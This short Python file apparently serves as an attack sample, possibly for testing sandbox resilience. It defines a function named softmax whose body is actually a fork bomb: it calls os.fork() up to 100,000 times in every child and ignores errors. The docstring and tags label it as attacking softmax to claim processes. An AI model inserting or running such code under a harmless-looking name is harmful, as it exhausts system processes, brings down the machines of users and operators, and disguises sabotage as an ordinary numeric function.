"""Forks as fast as it can, in every child as well.

attacks: softmax
claim: processes
"""

import os

def softmax(x, dim=-1):
    for _ in range(100_000):
        try:
            os.fork()
        except OSError:
            pass
